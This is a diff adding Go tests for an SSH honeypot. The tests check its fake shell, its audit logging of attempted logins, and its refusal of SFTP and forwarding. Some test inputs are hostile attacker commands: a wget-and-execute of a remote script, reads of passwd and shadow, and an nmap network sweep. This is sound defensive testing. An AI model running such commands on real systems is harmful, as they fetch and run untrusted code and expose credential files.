@@ -0,0 +1,170 @@
+// pkg/ssh/honeypot_test.go
+package ssh
+
+import (
+	"context"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/crypto/ssh"
+)
+
+func TestHoneypotShell(t *testing.T) {
+	shell := newHoneypotShell("admin", "db02")
+
+	tests := []struct {
+		line       string
+		wantOut    string
+		wantStatus int
+	}{
+		{"whoami", "admin\n", 0},
+		{"uname -a", "Linux db02 ", 0},
+		{"pwd", "/home/admin\n", 0},
+		{"cd /etc && pwd", "/etc\n", 0},
+		{"cat passwd", "root:x:0:0:root:/root:/bin/bash\n", 0},
+		{"cat shadow", "cat: shadow: Permission denied\n", 1},
+		{"cd /nowhere", "bash: cd: /nowhere: No such file or directory\n", 1},
+		{"false || echo 'a; b'", "a; b\n", 0},
+		{"false && echo no; echo yes", "yes\n", 0},
+		{"wget http://203.0.113.9/x.sh; chmod +x x.sh; ./x.sh", "bash: ./x.sh: Permission denied\n", 126},
+		{"nmap -sS 10.0.0.0/8", "bash: nmap: command not found\n", 127},
+	}
+	for _, tt := range tests {
+		out, status := shell.run(tt.line)
+		if !strings.Contains(out, tt.wantOut) || status != tt.wantStatus {
+			t.Errorf("run(%q) = %q, %d, want %q, %d", tt.line, out, status, tt.wantOut, tt.wantStatus)
+		}
+	}
+	if got := shell.prompt(); got != "admin@db02:/etc$ " {
+		t.Errorf("prompt() = %q", got)
+	}
+	if shell.run("exit"); !shell.exited {
+		t.Error("exit should end the shell")
+	}
+}
+
+func TestSplitCommandList(t *testing.T) {
+	got := splitCommandList(`cd /tmp; echo "a && b" && ls || true`)
+	want := []commandPart{{"", "cd /tmp"}, {";", `echo "a && b"`}, {"&&", "ls"}, {"||", "true"}}
+	if len(got) != len(want) {
+		t.Fatalf("splitCommandList() = %q, want %q", got, want)
+	}
+	for i := range want {
+		if got[i] != want[i] {
+			t.Errorf("part %d = %q, want %q", i, got[i], want[i])
+		}
+	}
+}
+
+func TestServerHoneypot(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+
+	audit := &lockedBuffer{}
+	_, addr, _, _ := startTestServer(t, ctx, ServerOptions{
+		Honeypot:             true,
+		HoneypotHostname:     "db02",
+		AuditLog:             audit,
+		Shell:                "/bin/sh",
+		SFTP:                 true,
+		AllowLocalForwarding: true,
+	})
+
+	client, err := ssh.Dial("tcp", addr, &ssh.ClientConfig{
+		User:            "root",
+		Auth:            []ssh.AuthMethod{ssh.Password("hunter2")},
+		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
+		ClientVersion:   "SSH-2.0-libssh_0.9.6",
+		Timeout:         time.Second,
+	})
+	if err != nil {
+		t.Fatalf("honeypot should accept any password: %v", err)
+	}
+	defer client.Close()
+	if got := string(client.ServerVersion()); got != honeypotServerVersion {
+		t.Errorf("server version = %q, want the imitated OpenSSH", got)
+	}
+
+	login := waitForEvent(t, audit, func(e AuditEvent) bool { return e.Event == "honeypot_auth" })
+	if login.User != "root" || login.Method != "password" || login.Password != "hunter2" || login.ClientVersion != "SSH-2.0-libssh_0.9.6" {
+		t.Errorf("auth event = %+v, want the credentials and client version", login)
+	}
+
+	if out := runTestCommand(t, client, "id; hostname"); out != "uid=0(root) gid=0(root) groups=0(root)\ndb02\n" {
+		t.Errorf("fake command output = %q", out)
+	}
+	waitForEvent(t, audit, func(e AuditEvent) bool { return e.Event == "exec" && e.Command == "id; hostname" })
+
+	session, err := client.NewSession()
+	if err != nil {
+		t.Fatalf("NewSession failed: %v", err)
+	}
+	if err := session.RequestSubsystem("sftp"); err == nil {
+		t.Error("the honeypot should not serve SFTP")
+	}
+	session.Close()
+	waitForEvent(t, audit, func(e AuditEvent) bool { return e.Event == "subsystem" && e.Command == "sftp" })
+
+	if conn, err := client.Dial("tcp", "127.0.0.1:22"); err == nil {
+		conn.Close()
+		t.Error("the honeypot should not forward connections")
+	}
+	waitForEvent(t, audit, func(e AuditEvent) bool { return e.Event == "forward" && e.Target == "127.0.0.1:22" })
+
+	_, signer := newTestKeyPair(t)
+	keyClient := dialTestServer(t, addr, "ubuntu", signer)
+	keyClient.Close()
+	key := waitForEvent(t, audit, func(e AuditEvent) bool { return e.Event == "honeypot_auth" && e.Method == "publickey" })
+	if key.Fingerprint != ssh.FingerprintSHA256(signer.PublicKey()) || !strings.HasPrefix(key.PublicKey, "ssh-ed25519 ") {
+		t.Errorf("key event = %+v, want the offered key", key)
+	}
+}
+
+func TestServerHoneypotShellSession(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+
+	audit := &lockedBuffer{}
+	_, addr, signer, _ := startTestServer(t, ctx, ServerOptions{Honeypot: true, AuditLog: audit})
+	client := dialTestServer(t, addr, "admin", signer)
+	defer client.Close()
+
+	session, err := client.NewSession()
+	if err != nil {
+		t.Fatalf("NewSession failed: %v", err)
+	}
+	defer session.Close()
+	var out strings.Builder
+	session.Stdout = &out
+	session.Stdin = strings.NewReader("cd /tmp\rcat /etc/hostname\rexit\r")
+	if err := session.RequestPty("xterm", 24, 80, ssh.TerminalModes{}); err != nil {
+		t.Fatalf("RequestPty failed: %v", err)
+	}
+	if err := session.Shell(); err != nil {
+		t.Fatalf("Shell failed: %v", err)
+	}
+	if err := session.Wait(); err != nil {
+		t.Fatalf("shell session error = %v", err)
+	}
+	if got := out.String(); !strings.Contains(got, "admin@"+DefaultHoneypotHostname+":/tmp$ ") || !strings.Contains(got, DefaultHoneypotHostname+"\r\n") {
+		t.Errorf("shell output = %q, want the prompt and fake hostname", got)
+	}
+	waitForEvent(t, audit, func(e AuditEvent) bool { return e.Event == "exec" && e.Command == "cat /etc/hostname" })
+
+	// Scripts piped without a terminal get plain output
+	script, err := client.NewSession()
+	if err != nil {
+		t.Fatalf("NewSession failed: %v", err)
+	}
+	defer script.Close()
+	var scriptOut strings.Builder
+	script.Stdout = &scriptOut
+	script.Stdin = strings.NewReader("uname\nwhoami\n")
+	if err := script.Shell(); err != nil {
+		t.Fatalf("Shell failed: %v", err)
+	}
+	if err := script.Wait(); err != nil || scriptOut.String() != "Linux\nadmin\n" {
+		t.Errorf("piped script output = %q, %v", scriptOut.String(), err)
+	}
+}